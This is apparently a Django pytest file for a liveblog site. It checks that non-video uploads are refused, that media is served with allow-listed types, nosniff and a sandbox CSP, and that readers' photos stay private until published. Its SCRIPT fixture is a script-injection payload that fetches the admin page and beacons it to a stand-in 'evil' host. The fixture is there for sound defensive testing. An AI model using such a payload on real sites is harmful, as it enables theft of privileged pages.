"""Nothing under the media URL can run: uploads are checked by their bytes, typed from an
allow-list when served (the embedded server and nginx alike), and the pages' policy takes code
from the static files only.

The attack replayed: an editor uploads ``exec.js`` and ``loader.html`` as videos, then opens the
HTML from the site, which runs the script with the site's origin.
"""

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from liveblogs.media import media_headers, serve
from liveblogs.models import Video

from .factories import mp4_bytes, webm_bytes

SCRIPT = b"fetch('/admin/').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))"
LOADER = b"<!doctype html><script src='exec.js'></script>"


def video_form(name, data, **fields):
    return {
        "title": "Clip", "description": "", "url": "", "poster": "", "duration": "",
        "file": SimpleUploadedFile(name, data, content_type="video/mp4"), **fields,
    }


@pytest.mark.parametrize("name, data", [
    ("exec.js", SCRIPT), ("loader.html", LOADER), ("loader.mp4", LOADER),
    ("cut.mp4", mp4_bytes()[:40]),
])
def test_a_video_upload_that_is_not_a_video_is_refused(editor_client, name, data):
    response = editor_client.post(reverse("admin:liveblogs_video_add"), video_form(name, data))
    html = response.content.decode()
    assert response.status_code == 200
    assert "This file is not a video we can play" in html or "This video is cut off" in html
    assert not Video.objects.exists()


@pytest.mark.parametrize("name, data, suffix", [
    ("clip.mp4", mp4_bytes(), ".mp4"), ("clip.js", mp4_bytes(), ".mp4"),
    ("clip.mov", mp4_bytes(brand=b"qt  "), ".mov"), ("clip.mp4", webm_bytes(), ".webm"),
])
def test_a_real_video_is_stored_under_the_suffix_of_what_it_is(editor_client, name, data, suffix):
    response = editor_client.post(reverse("admin:liveblogs_video_add"), video_form(name, data))
    assert response.status_code == 302
    stored = Video.objects.get().file.name
    assert stored.startswith("videos/") and stored.endswith(suffix)
    assert name.rsplit(".")[0] not in stored


@pytest.fixture
def stored(tmp_path):
    """A media folder holding what an attacker would like served, and honest files."""
    root = tmp_path / "media"
    (root / "videos").mkdir(parents=True)
    files = {
        "videos/exec.js": SCRIPT, "videos/loader.html": LOADER, "videos/page.svg": b"<svg/>",
        "videos/clip.mp4": mp4_bytes(), "photos/a.jpg": b"\xff\xd8\xff", "photos/a.webp": b"RIFF",
        "captions/a.vtt": b"WEBVTT\n", "videos/old.js.gz": b"\x1f\x8b",
    }
    for name, data in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return root


EXPECTED = {
    "videos/exec.js": ("application/octet-stream", "attachment"),
    "videos/loader.html": ("application/octet-stream", "attachment"),
    "videos/page.svg": ("application/octet-stream", "attachment"),
    "videos/old.js.gz": ("application/octet-stream", "attachment"),
    "videos/clip.mp4": ("video/mp4", None),
    "photos/a.jpg": ("image/jpeg", None),
    "photos/a.webp": ("image/webp", None),
    "captions/a.vtt": ("text/vtt", None),
}


def test_the_embedded_media_server_types_files_from_the_allow_list(stored):
    for name, (content_type, disposition) in EXPECTED.items():
        response = serve(RequestFactory().get(f"/media/{name}"), name, document_root=stored)
        assert response["Content-Type"] == content_type, name
        assert response.get("Content-Disposition") == disposition, name
        assert response["X-Content-Type-Options"] == "nosniff", name
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'", name
        assert "Content-Encoding" not in response, name
    assert set(media_headers("x.mp4")) == {
        "Content-Type", "X-Content-Type-Options", "Content-Security-Policy"}


# nginx, as deploy/ configures it --------------------------------------------------------------------




# Private until shown --------------------------------------------------------------------------------


def public_files(media_root):
    return sorted(str(p.relative_to(media_root)) for p in Path(media_root).rglob("*") if p.is_file())


@pytest.fixture
def people(db):
    from django.contrib.auth.models import Group

    from liveblogs.roles import EDITORS, REPORTERS

    from .factories import make_reporter, make_user

    editor = make_user(username="ed", is_staff=True)
    editor.groups.add(Group.objects.get(name=EDITORS))
    reporter = make_user(username="rita")
    reporter.groups.add(Group.objects.get(name=REPORTERS))
    make_reporter(name="Rita Field", user=reporter)
    return editor, reporter


def test_a_readers_photo_is_served_to_the_desk_only(client, people, media_root):
    from .factories import make_page, make_photo, make_submission

    editor, reporter = people
    photo = make_photo(caption="My cellar")
    make_submission(live_page=make_page(), photo=photo)
    assert public_files(media_root) == []  # nothing under the media URL at all
    assert photo.original_url.startswith(f"/file/photos/{photo.pk}/")
    assert "/media/" not in photo.picture.srcset_jpeg
    assert client.get(photo.original_url)["Location"].startswith("/accounts/login/")
    client.force_login(reporter)
    assert client.get(photo.original_url).status_code == 404
    client.force_login(editor)
    response = client.get(photo.original_url)
    assert response.status_code == 200
    assert response["Content-Type"] == "image/jpeg"
    assert response["Cache-Control"] == "private, max-age=3600"
    assert b"".join(response.streaming_content).startswith(b"\xff\xd8")
    for entry in photo.renditions:
        name = Path(entry["name"]).name
        assert client.get(f"/file/photos/{photo.pk}/{name}").status_code == 200
    assert client.get(f"/file/photos/{photo.pk}/other.jpg").status_code == 404


def test_a_photo_goes_public_when_an_update_showing_it_is_published(client, people, media_root):
    from liveblogs.models import Update

    from .factories import make_page, make_photo, make_update

    editor, reporter = people
    photo = make_photo(uploaded_by=reporter)
    update = make_update(live_page=make_page(slug="flood"), status=Update.Status.DRAFT,
                         photos=[photo], created_by=reporter)
    assert public_files(media_root) == []
    update.publish(by=editor)
    photo.refresh_from_db()
    assert photo.public
    # Every rendition, and not the original, is now public.
    assert public_files(media_root) == sorted(r["name"] for r in photo.renditions)
    html = client.get("/live/flood/").content.decode()
    assert f'srcset="/media/{photo.renditions[-1]["name"]}' in html or "/media/photos/" in html
    assert "/file/photos/" not in html
    for url in re.findall(r'/media/[^\s"]+', html):
        assert (media_root / url.removeprefix("/media/")).exists(), url


def test_nginx_sends_private_files_when_told_to(client, people, settings):
    from .factories import make_photo

    editor, _reporter = people
    settings.LIVEBLOGS_PRIVATE_ACCEL_REDIRECT = "/private-media/"
    photo = make_photo()
    client.force_login(editor)
    response = client.get(photo.original_url)
    assert response["X-Accel-Redirect"] == f"/private-media/{photo.image.name}"
    assert response["Content-Type"] == "image/jpeg" and not response.content


def test_a_withdrawn_updates_photo_leaves_the_public_folder(people, media_root,
                                                             django_capture_on_commit_callbacks):
    from .factories import make_page, make_photo, make_update

    editor, _reporter = people
    page = make_page()
    photo = make_photo()
    shown_twice = make_photo()
    update = make_update(live_page=page, photos=[photo, shown_twice])
    make_update(live_page=page, photos=[shown_twice])
    assert public_files(media_root)
    with django_capture_on_commit_callbacks(execute=True):
        update.withdraw(by=editor)
    photo.refresh_from_db()
    shown_twice.refresh_from_db()
    assert not photo.public and shown_twice.public
    assert public_files(media_root) == sorted(r["name"] for r in shown_twice.renditions)


def test_a_replaced_picture_leaves_no_file_behind(people, media_root,
                                                  django_capture_on_commit_callbacks):
    from django.core.files.base import ContentFile

    from .factories import jpeg_bytes, make_page, make_photo, make_update

    photo = make_photo()
    make_update(live_page=make_page(), photos=[photo])
    photo.refresh_from_db()
    old = {"private": photo.stored_names(), "public": [r["name"] for r in photo.renditions]}
    with django_capture_on_commit_callbacks(execute=True):
        photo.image = ContentFile(jpeg_bytes(colour=(200, 0, 0)), name="new.jpg")
        photo.save()
    assert not any(photo.image.storage.exists(name) for name in old["private"])
    assert not any((media_root / name).exists() for name in old["public"])
    assert public_files(media_root) == sorted(r["name"] for r in photo.renditions)
